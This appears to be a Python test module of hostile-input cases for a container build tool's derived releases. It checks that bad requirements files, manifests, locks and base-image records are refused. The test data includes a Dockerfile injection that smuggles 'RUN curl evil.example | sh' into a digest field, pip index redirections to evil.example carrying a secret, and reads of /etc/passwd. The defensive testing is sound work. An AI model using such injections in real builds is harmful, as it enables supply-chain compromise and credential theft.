"""Hostile inputs of derived releases (manifests/derived/R.yaml): the team's requirements file (links
out, FIFOs, huge files, options and unpinned references inside it, credentials in URLs), the
overrides, the lock, the base image reference and the arguments of `resolve` and `fit`. Each is
refused with exit 2 (a damaged lock too: it is the user's file) before any resolver, engine or index
is reached, and nothing is built or written."""

from __future__ import annotations

import os

from ..helpers import derived_manifest
from .hostile import (
    SECRET,
    HostileCase,
    dev,
    edit,
    nothing_built,
    replace_with_dir,
    replace_with_fifo,
    replace_with_link,
    secret_file,
    setup_all,
    write,
)

MANIFEST = "manifests/derived/team-x.yaml"
REQUIREMENTS = "requirements/team-x.txt"
LOCK = "constraints/team-x.lock"
DERIVED = derived_manifest("team-x", overrides=(("tqdm==4.70.1", "the team's notebooks pin tqdm 4.67"),))


BASE_RECORD = ('{"image_id": "sha256:' + "1" * 64 + '", "tags": ["nvcr.io/nvidia/pytorch:dev-py3"], '
               '"pushed": {"127.0.0.1:5000/nvidia/pytorch:dev-py3": {"digest": "DIGEST"}}}')


def copy_team_vision(project) -> None:
    """The example derived release with its requirements and committed (fresh) lock."""
    import shutil

    from ..conftest import REPO

    for rel in ("manifests/derived/team-vision.yaml", "requirements/team-vision.txt", "constraints/team-vision.lock"):
        (project.root / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(REPO / rel, project.root / rel)


def team(project, outside):
    dev(project, outside)
    write(MANIFEST, DERIVED)(project, outside)
    write(REQUIREMENTS, "einops>=0.8\ntqdm==4.67.1\n")(project, outside)


def requirements(text: str):
    return setup_all(team, write(REQUIREMENTS, text))


def no_lock_written(project, outside) -> str | None:
    found = nothing_built(project, outside)
    if found:
        return found
    lock = project.root / LOCK
    return f"{LOCK} was written" if lock.is_file() and not lock.is_symlink() else None


def no_team_vision_built(project, outside) -> str | None:
    built = project.root / "build" / "team-vision"
    return f"build/team-vision/ was written: {sorted(p.name for p in built.iterdir())[:6]}" if built.exists() else None


def derived_cases(add) -> None:
    klass = "derived releases"
    render = ("render", "--release", "team-x")
    resolve = ("resolve", "--release", "team-x")
    for name, argv, setup, mentions in [
        # the requirements file through the shared reader
        ("requirements-link-outside", resolve, setup_all(team, replace_with_link(REQUIREMENTS, lambda o: str(secret_file(o)))),
         ("outside",)),
        ("requirements-fifo", resolve, setup_all(team, replace_with_fifo(REQUIREMENTS)), ("FIFO",)),
        ("requirements-dev-zero", resolve, setup_all(team, replace_with_link(REQUIREMENTS, lambda o: "/dev/zero")),
         ("outside",)),
        ("requirements-directory", resolve, setup_all(team, replace_with_dir(REQUIREMENTS)), ("directory",)),
        ("requirements-huge", resolve, requirements("einops\n" + "# padding\n" * 20000), ("bytes",)),
        ("requirements-not-utf8", resolve, setup_all(team, lambda p, o: (p.root / REQUIREMENTS).write_bytes(b"\xff\xfe")),
         ("not UTF-8",)),
        ("requirements-missing", resolve, setup_all(team, lambda p, o: (p.root / REQUIREMENTS).unlink()),
         ("derive.requirements",)),
        # what pip takes in a requirements file and a derived release must not
        ("requirements-index-url", resolve, requirements(f"--index-url https://u:{SECRET}@evil.example/simple\neinops\n"),
         ("line 1", "names an index")),
        ("requirements-extra-index", resolve, requirements("einops\n--extra-index-url=https://evil.example/simple\n"),
         ("line 2", "names an index")),
        ("requirements-editable", resolve, requirements("-e .\n"), ("line 1", "-e")),
        ("requirements-include", resolve, requirements("-r /etc/passwd\n"), ("line 1", "includes another")),
        ("requirements-constraint", resolve, requirements("-c other.txt\n"), ("line 1", "constraints")),
        ("requirements-other-option", resolve, requirements("--pre\neinops\n"), ("line 1", "is an option")),
        ("requirements-local-path", resolve, requirements("./vendor/pkg\n"), ("local file",)),
        ("requirements-file-url", resolve, requirements("pkg @ file:///etc/passwd\n"), ("https://",)),
        ("requirements-url-credentials", resolve, requirements(f"pkg @ https://user:{SECRET}@host.example/p-1.0.tar.gz\n"),
         ("credentials",)),
        ("requirements-url-no-hash", resolve, requirements("pkg @ https://host.example/p-1.0.tar.gz\n"),
         ("sha256",)),
        ("requirements-vcs-branch", resolve, requirements("pkg @ git+https://github.com/o/p.git@main\n"),
         ("full commit",)),
        ("requirements-vcs-no-ref", resolve, requirements("pkg @ git+https://github.com/o/p.git\n"),
         ("full commit",)),
        ("requirements-continuation", resolve, requirements("einops \\\n  >=0.8\n"), ("next line",)),
        ("requirements-not-pep508", resolve, requirements("einops >>> 1\n"), ("not a requirement",)),
        ("requirements-twice", resolve, requirements("einops>=0.8\nEinops<1\n"), ("required again",)),
        ("requirements-empty", resolve, requirements("# nothing\n"), ("no requirements",)),
        ("requirements-line-huge", resolve, requirements("einops" + "=" * 5000 + "\n"), ("characters long",)),
        # the manifest's derive: section, checked against the base
        ("override-not-a-base-pin", render, setup_all(team, edit(MANIFEST, "tqdm==4.70.1", "scipy==1.11.4")),
         ("does not pin scipy",)),
        ("override-wrong-version", render, setup_all(team, edit(MANIFEST, "tqdm==4.70.1", "tqdm==4.60.0")),
         ("dev pins tqdm==4.70.1",)),
        ("override-protected-unsaid", render, setup_all(team, edit(MANIFEST, "tqdm==4.70.1", "torch==2.13.0+cpu")),
         ("protected", "protected: true")),
        ("override-no-reason", render, setup_all(team, edit(MANIFEST, "      reason: the team's notebooks pin tqdm 4.67\n", "")),
         ("reason",)),
        ("override-twice", render, setup_all(team, edit(MANIFEST, "  overrides:\n", "  overrides:\n    - replaces: tqdm==4.70.1\n      reason: the first override of it\n")),
         ("overridden twice",)),
        ("override-not-a-pin", render, setup_all(team, edit(MANIFEST, "tqdm==4.70.1", "tqdm>=4")),
         ("NAME==VERSION",)),
        ("derive-requirements-traversal", render, setup_all(team, edit(MANIFEST, "requirements/team-x.txt", "../../outside.txt")),
         ("a file of the project",)),
        ("derive-requirements-absolute", render, setup_all(team, edit(MANIFEST, "requirements/team-x.txt", "/etc/passwd")),
         ("a file of the project",)),
        ("derive-requirements-option", render, setup_all(team, edit(MANIFEST, "requirements/team-x.txt", "--index-url")),
         ("a file of the project",)),
        ("derived-sets-components", render, setup_all(team, edit(MANIFEST, "summary:", "components: {}\nsummary:")),
         ("takes this from its base",)),
        ("derived-protected-on-release", render, setup_all(team, edit(MANIFEST, "derive:\n", "derive:\n  protected: [numpy]\n")),
         ("pip.protected",)),
        ("derived-on-derived", render, setup_all(team, write("manifests/derived/team-y.yaml", DERIVED),
                                                 edit(MANIFEST, "extends: dev", "extends: derived/team-y")),
         ("extends: derived/team-y is itself a derived release", "base.digest")),
        ("derived-on-derived-build", ("build", "--release", "team-x"),
         setup_all(team, write("manifests/derived/team-y.yaml", DERIVED),
                   edit(MANIFEST, "extends: dev", "extends: derived/team-y")),
         ("extends: derived/team-y is itself a derived release",)),
        ("derived-base-image-credentials", render,
         setup_all(team, write(MANIFEST, "extends: parts/debian-bookworm\nsummary: x\norigin: public-wheels\n"
                                         f"base:\n  image: u:{SECRET}@registry.example/x:1\npip: {{constraint_file: true}}\n"
                                         "derive:\n  requirements: requirements/team-x.txt\n")),
         ("credentials",)),
        ("derived-base-image-no-digest", render,
         setup_all(team, write(MANIFEST, "extends: parts/debian-bookworm\nsummary: x\norigin: public-wheels\n"
                                         "base:\n  image: registry.example/x:1\npip: {constraint_file: true}\n"
                                         "derive:\n  requirements: requirements/team-x.txt\n")),
         ("by digest",)),
        # the lock: the user's file too
        ("lock-link-outside", ("build", "--release", "team-x"),
         setup_all(team, lambda p, o: os.symlink(secret_file(o), p.root / LOCK)), ("outside",)),
        ("lock-fifo", ("build", "--release", "team-x"), setup_all(team, replace_with_fifo(LOCK)), ("FIFO",)),
        ("lock-garbage", ("build", "--release", "team-x"), setup_all(team, write(LOCK, "token=not-a-pin\n")),
         ("NAME==VERSION", "ngcbuild resolve")),
        ("lock-missing-build", ("build", "--release", "team-x"), team, ("no lock", "ngcbuild resolve --release team-x")),
        ("lock-stale-build", ("build", "--release", "team-x"),
         setup_all(team, write(LOCK, "# inputs-sha256: " + "0" * 64 + "\neinops==0.8.2\n")),
         ("stale", "ngcbuild resolve --release team-x")),
        # the base's record (build/dev/record.json, maybe another job's artifact): what FROM is made of
        ("base-record-digest-injection", ("build", "--release", "team-vision"),
         setup_all(dev, lambda p, o: copy_team_vision(p), write("build/dev/record.json", BASE_RECORD.replace(
             "DIGEST", "sha256:" + "1" * 64 + '\\"\\nRUN curl evil.example | sh'))),
         ("build/dev/record.json", "digest: expected sha256:<64 hex digits>")),
        ("base-record-ref-injection", ("render", "--release", "team-vision"),
         setup_all(dev, lambda p, o: copy_team_vision(p), write("build/dev/record.json", BASE_RECORD.replace(
             "127.0.0.1:5000/nvidia/pytorch:dev-py3", "127.0.0.1:5000/nvidia/pytorch:dev-py3\\nLABEL x=y").replace(
             "DIGEST", "sha256:" + "1" * 64))),
         ("build/dev/record.json", "pushed: expected keys that are image references")),
        ("base-record-image-id-option", ("build", "--release", "team-vision"),
         setup_all(dev, lambda p, o: copy_team_vision(p), write("build/dev/record.json",
                                                                 '{"image_id": "--privileged", "pushed": {}}')),
         ("build/dev/record.json", "image_id: expected sha256:")),
        ("derived-base-image-a-tag", ("build", "--release", "team-vision", "--base-image",
                                      "127.0.0.1:5000/nvidia/pytorch:dev-py3"),
         setup_all(dev, lambda p, o: copy_team_vision(p)), ("--base-image", "by digest")),
        # arguments
        ("resolve-release-traversal", ("resolve", "--release", "../team-x"), team, ("--release",)),
        ("resolve-not-derived", ("resolve", "--release", "dev"), team, ("not a derived release",)),
        ("resolve-wheelhouse-file", ("resolve", "--release", "team-x", "--wheelhouse", REQUIREMENTS), team,
         ("--wheelhouse",)),
        ("fit-requirements-link-outside", ("fit", "--requirements", "req.txt"),
         setup_all(team, lambda p, o: os.symlink(secret_file(o), p.root / "req.txt")), ("outside",)),
        ("fit-requirements-fifo", ("fit", "--requirements", "req.txt"),
         setup_all(team, lambda p, o: os.mkfifo(p.root / "req.txt")), ("FIFO",)),
        ("fit-requirements-outside", ("fit", "--requirements", "OUTSIDE/credentials"),
         setup_all(team, lambda p, o: secret_file(o)), ("outside",)),
        ("fit-requirements-option-like", ("fit", "--requirements=--json"), team, ("--requirements",)),
        ("fit-requirements-index-url", ("fit", "--requirements", "req.txt"),
         setup_all(team, write("req.txt", "-i https://evil.example/simple\n")), ("names an index",)),
    ]:
        after = nothing_built if name.startswith("lock-") else no_lock_written  # those cases put a lock there
        if name.startswith(("base-record-", "derived-base-image-a-tag")):  # build/dev/ is the case's own
            after = no_team_vision_built
        add(HostileCase(name, klass, argv, setup, mentions=mentions, absent=(SECRET,), after=after))
